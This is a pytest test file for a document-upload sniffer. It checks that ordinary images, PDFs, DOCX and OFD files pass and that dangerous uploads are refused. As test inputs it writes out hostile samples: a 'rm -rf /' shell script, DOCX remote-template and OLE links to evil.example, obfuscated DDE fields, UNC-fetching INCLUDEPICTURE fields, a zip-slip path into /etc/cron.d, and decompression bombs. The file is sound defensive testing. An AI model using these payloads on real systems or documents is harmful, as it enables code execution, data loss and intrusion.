from __future__ import annotations

import io
import struct
import time
import zipfile
import zlib
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image

from tongban.documents.previews import preview
from tongban.documents.sniff import JPG, PDF, PNG, sniff
from tongban.documents.tests.samples import sample
from tongban.documents.typesetting import render
from tongban.kit.errors import BadInput

pytestmark = pytest.mark.usefixtures("in_english")
REAL_OFD = Path(__file__).parents[4] / "shared" / "data" / "ofd"


def code_of(content: bytes, name: str = "") -> str:
    return sniff(io.BytesIO(content), size=len(content), name=name).code


def picture(form: str, size: tuple[int, int] = (40, 20), **options: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "white").save(out, form, **options)
    return out.getvalue()


def zipped(parts: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


MAIN = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">%s</Types>'


def body(paragraph: str, prefix: str = "w") -> bytes:
    """A part of a docx; `paragraph` has the prefix w."""
    whole = f'<w:document xmlns:w="{MAIN}"><w:body><w:p>{paragraph}</w:p></w:body></w:document>'
    return whole.replace("w:", f"{prefix}:").replace("xmlns:w=", f"xmlns:{prefix}=").encode()


def link(kind: str = "oleObject", target: str = "https://evil.example/x.dotm", mode: str = "External") -> str:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}" TargetMode="{mode}"/></Relationships>'
    )


WORD = {"[Content_Types].xml": (TYPES % "").encode(), "word/document.xml": body("")}
OFD_PARTS = {"OFD.xml": b'<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"/>', "Doc_0/Document.xml": b"<x/>"}


def a_pdf() -> bytes:
    return render("delivery", sample("delivery"))


def test_the_five_kinds_are_known_by_their_content() -> None:
    made = [picture("JPEG"), picture("PNG"), a_pdf(), zipped(WORD), zipped(OFD_PARTS)]
    assert [code_of(content) for content in made] == ["jpg", "png", "pdf", "docx", "ofd"]


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"<!DOCTYPE html><script>1</script>", "HTML"),
        (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', "SVG"),
        (b"MZ\x90\x00" + b"\0" * 200, "program"),
        (b"#!/bin/sh\nrm -rf /", "script"),
        (b"\0\0\0\x18ftypheic" + b"\0" * 50, "HEIC"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 50, "Office"),
        (b"just some words", "unknown"),
    ],
)
def test_a_stranger_is_called_by_its_name(content: bytes, words: str) -> None:
    with pytest.raises(BadInput) as refused:
        code_of(content)
    assert words in str(refused.value) and refused.value.cure


def test_a_pdf_with_a_script_in_front_is_refused() -> None:
    with pytest.raises(BadInput, match="in front"):
        code_of(b"var a = 1; /*\n" + a_pdf())


def test_a_page_in_front_of_a_pdf_is_a_page() -> None:
    with pytest.raises(BadInput, match="HTML"):
        code_of(b"<html><script>1</script>\n" + a_pdf())


@pytest.mark.parametrize("front", [picture("JPEG"), picture("PNG")])
def test_an_archive_behind_a_picture_is_refused(front: bytes) -> None:
    with pytest.raises(BadInput):
        code_of(front + zipped({"a.class": b"x"}))


def test_an_archive_behind_a_pdf_is_refused() -> None:
    with pytest.raises(BadInput):
        code_of(a_pdf() + zipped({"a.class": b"x"}))


def test_a_locked_pdf_is_reported_as_locked() -> None:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(a_pdf())))
    writer.encrypt("secret", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    with pytest.raises(BadInput, match="password"):
        code_of(out.getvalue())


SETTINGS, DOCUMENT = "word/_rels/settings.xml.rels", "word/_rels/document.xml.rels"


@pytest.mark.parametrize(
    "more",
    [
        {"word/vbaProject.bin": b"x"},
        {"word/activeX/activeX1.xml": b"x"},
        {"[Content_Types].xml": (TYPES % '<Override ContentType="a/macro&#69;nabled+xml"/>').encode()},
        {SETTINGS: link("attachedTemplate").encode()},
        {SETTINGS: link("attachedTemplate").replace('"', "'").encode()},
        {SETTINGS: link("attachedTemplate").replace("=", " \n= ").encode()},
        {SETTINGS: link("attachedTemplate").encode("utf-16")},
        {SETTINGS: link("attached&#84;emplate").encode()},
        {SETTINGS.replace("settings", "Settings"): link("attachedTemplate").encode()},
        {SETTINGS: link("attachedTemplate", mode="External&quot; x=&quot;").encode()},
        {SETTINGS: link("attachedTemplate", mode='External" targetmode="Internal').encode()},
        {DOCUMENT: link("vbaProject", "code.dat", "Internal").encode()},
    ],
)
def test_a_document_with_macros_is_refused(more: dict[str, bytes]) -> None:
    with pytest.raises(BadInput, match="macros"):
        code_of(zipped({**WORD, **more}))


def test_a_bomb_is_refused_before_it_is_unpacked() -> None:
    with pytest.raises(BadInput, match="too large"):
        code_of(zipped({**WORD, "word/media/a.bin": b"\0" * 5_000_000}))


def test_an_archive_of_countless_parts_is_refused() -> None:
    with pytest.raises(BadInput, match="too many"):
        code_of(zipped({f"{number}": b"" for number in range(2100)}))


def test_parts_that_leave_their_folder_are_refused() -> None:
    with pytest.raises(BadInput, match="outside"):
        code_of(zipped({**WORD, "../../etc/cron.d/x": b"1"}))


def test_any_other_archive_is_refused() -> None:
    with pytest.raises(BadInput, match="archive"):
        code_of(zipped({"xl/workbook.xml": b"1", "[Content_Types].xml": b"1"}))


def test_a_name_that_contradicts_the_content_is_explained() -> None:
    with pytest.raises(BadInput, match="PNG") as refused:
        code_of(picture("PNG"), "scan.pdf")
    assert (refused.value.found, refused.value.wanted) == (".pdf", ".png")


def test_a_picture_named_after_another_picture_is_taken_for_what_it_is() -> None:
    assert code_of(picture("PNG"), "weixin.JPG") == "png"
    assert code_of(picture("JPEG"), "photo.jpeg") == "jpg"


@given(
    st.binary(max_size=400),
    st.sampled_from([b"", b"PK\x03\x04", b"%PDF-1.7\n", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff"]),
)
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_no_file_whatever_breaks_the_sniffer(rest: bytes, start: bytes) -> None:
    try:
        code_of(start + rest)
    except BadInput as refused:
        assert str(refused)


@given(st.integers(0, 4000), st.integers(0, 255))
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_a_damaged_docx_is_taken_or_refused_but_never_breaks(place: int, value: int) -> None:
    content = bytearray(zipped({**WORD, "word/a.xml": b"abc" * 50}))
    content[place % len(content)] = value
    try:
        code_of(bytes(content))
    except BadInput as refused:
        assert str(refused)


@pytest.mark.skipif(not REAL_OFD.is_dir(), reason="the shared data are not here")
def test_real_ofd_files_are_taken() -> None:
    for file in REAL_OFD.glob("*.ofd"):
        assert code_of(file.read_bytes(), file.name) == "ofd", file.name


def test_a_preview_is_small_upright_and_tells_nothing(tmp_path: Path) -> None:
    exif = Image.Exif()
    exif[0x0112] = 6  # lying on its side
    exif[0x010F] = "Camera maker"
    file = tmp_path / "photo"
    file.write_bytes(picture("JPEG", (4000, 1000), exif=exif.tobytes(), comment=b"secret"))
    small = Image.open(io.BytesIO(preview(file, JPG)))
    assert (small.format, small.size, small.info, dict(small.getexif())) == ("PNG", (400, 1600), {}, {})


def test_a_picture_of_countless_pixels_is_refused_without_unpacking(tmp_path: Path) -> None:
    header = struct.pack(">IIBBBBB", 60000, 60000, 1, 0, 0, 0, 0)
    chunks = [(b"IHDR", header), (b"IDAT", zlib.compress(b"\0" * 1000)), (b"IEND", b"")]
    parts = [struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d)) for t, d in chunks]
    file = tmp_path / "bomb"
    file.write_bytes(b"\x89PNG\r\n\x1a\n" + b"".join(parts))
    with pytest.raises(BadInput, match="too large"):
        preview(file, PNG)


def test_a_cut_off_picture_and_a_pdf_have_no_preview(tmp_path: Path) -> None:
    file = tmp_path / "cut"
    file.write_bytes(picture("JPEG", (300, 300))[:200])
    with pytest.raises(BadInput):
        preview(file, JPG)
    with pytest.raises(BadInput):
        preview(file, PDF)


FIELD = '<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\x "y"</w:instrText></w:r>'
MARK = '<w:fldChar w:fldCharType="%s"/>'
BEGIN, BETWEEN, END = MARK % "begin", MARK % "separate", MARK % "end"


def code(said: str) -> str:
    return f'<w:instrText xml:space="preserve"> {said} </w:instrText>'


SPELT = BEGIN + BEGIN + code("QUOTE 68 68 69 65 85 84 79") + BETWEEN + "<w:t>x</w:t>" + END + code("cmd") + END
SIMPLE = '<w:fldSimple w:instr=" DDE cmd x"/>'
OVERRIDE = '<Override PartName="/word/notes.dat" ContentType="application/vnd.x.footnotes+xml"/>'


@pytest.mark.parametrize(
    "more",
    [
        {"word/embeddings/oleObject1.bin": b"x"},
        {"word/embeddings/a.docm": b"x"},
        {"word/document.xml": body(FIELD)},
        {"word/document.xml": body(FIELD.replace(" DDE", "&#68;DE"))},
        {"word/document.xml": body(FIELD, prefix="x")},
        {"word/document.xml": body(SPELT)},
        {"word/document.xml": body(BEGIN + BEGIN + code("REF c") + END + code("cmd") + END)},
        {"word/document2.xml": body(FIELD)},
        {"word/notes.dat": body(FIELD), "[Content_Types].xml": (TYPES % OVERRIDE).encode()},
        {"word/header1.xml": body(SIMPLE)},
        {"word/header1.xml": body(SIMPLE.replace('"', "'"))},
        {DOCUMENT: link().encode()},
        {DOCUMENT: link().replace('"', "'").encode()},
        {DOCUMENT: link("oleObject", "a.dat", "Internal").encode()},
        {DOCUMENT: link("aFChunk", "a.mht", "Internal").encode()},
    ],
)
def test_a_document_with_an_attached_program_is_refused(more: dict[str, bytes]) -> None:
    with pytest.raises(BadInput, match="attached program"):
        code_of(zipped(WORD | more))


@pytest.mark.parametrize(
    "said",
    [
        r'INCLUDEPICTURE "\\\\203.0.113.9\\s\\x.png" \d',
        'INCLUDETEXT "http://x.example/a.docx"',
        r'LINK Excel.Sheet.8 "\\\\203.0.113.9\\a.xls" "" \a',
        "RD http://x.example/a.docx",
    ],
)
def test_a_field_that_fetches_something_is_refused(said: str) -> None:
    with pytest.raises(BadInput, match="from elsewhere when it is opened"):
        code_of(zipped(WORD | {"word/document.xml": body(code(said))}))


@pytest.mark.parametrize(
    "relation",
    [
        link("image", "https://evil.example/pixel.png"),
        link("image", "file://evil.example/share/pixel.png"),
        link("image", "https://evil.example/pixel.png", "Internal"),
        link("image", "//evil.example/pixel.png", "Internal"),
        link("settings", "https://evil.example/settings.xml"),
    ],
)
def test_a_document_that_fetches_something_is_refused(relation: str) -> None:
    with pytest.raises(BadInput, match="from elsewhere when it is opened"):
        code_of(zipped(WORD | {"word/_rels/header1.xml.rels": relation.encode()}))


@pytest.mark.parametrize(
    "more",
    [
        {"word/embeddings/Microsoft_Excel_Sheet1.xlsx": b"x", "word/media/image1.png": b"x"},
        {"word/document.xml": body("<w:t>DDE AUTO 是一种字段</w:t><w:instrText> PAGE </w:instrText>")},
        {"word/document.xml": body('<w:instrText> HYPERLINK "https://example.cn/dde/add" </w:instrText>')},
        {"word/document.xml": body(BEGIN + code("IF") + BEGIN + code("PAGE") + BETWEEN + END + code("= 1 a b") + END)},
        {"word/document.xml": body(BEGIN + code("TOC") + BETWEEN + BEGIN + code("PAGEREF x") + END + END)},
        {"word/document.xml": body(code(r'INCLUDEPICTURE "C:\\Users\\a\\1.png" \* MERGEFORMAT'))},
        {DOCUMENT: link("hyperlink").encode()},
        {DOCUMENT: link("image", "media/image1.png", "Internal").encode()},
    ],
)
def test_a_document_with_a_sheet_a_picture_or_a_link_is_taken(more: dict[str, bytes]) -> None:
    assert code_of(zipped(WORD | more)) == "docx"


@pytest.mark.parametrize(
    "more",
    [
        {"word/_rels/a.rels": b"<" * 90_000},
        {"word/_rels/a.rels": b'frame"' * 100_000},
        {SETTINGS: b"attachedTemplate" * 60_000},
        {"word/document.xml": b"<w:instrText" * 60_000},
        {"word/document.xml": b'<!DOCTYPE a [<!ENTITY e "DDE c">]>' + body(FIELD.replace("DDE", "&e;"))},
        {"word/document.xml": b"<?xml version='1.0' encoding='utf-7'?>" + body("")},
        {"Word/Document.xml": body(FIELD)},
        {"word/document.xml": b"<a>" + b"".join(b"<b>%d</b>" % n for n in range(6_000_000)) + b"</a>"},
    ],
)
def test_a_document_that_cannot_be_read_through_is_refused_soon(more: dict[str, bytes]) -> None:
    began = time.monotonic()
    with pytest.raises(BadInput):
        code_of(zipped(WORD | more))
    assert time.monotonic() - began < 15  # most of it packing the last one


def test_a_document_packed_in_a_way_of_its_own_is_refused() -> None:
    with pytest.raises(BadInput, match="packed in a way"):
        code_of(zipped(WORD, zipfile.ZIP_LZMA))


def test_an_ofd_whose_entry_is_something_else_is_refused() -> None:
    for entry in (b"<a><OFD/></a>", b"<!-- <OFD > -->" + b"<b/>"):
        with pytest.raises(BadInput, match="something else"):
            code_of(zipped(OFD_PARTS | {"OFD.xml": entry}))
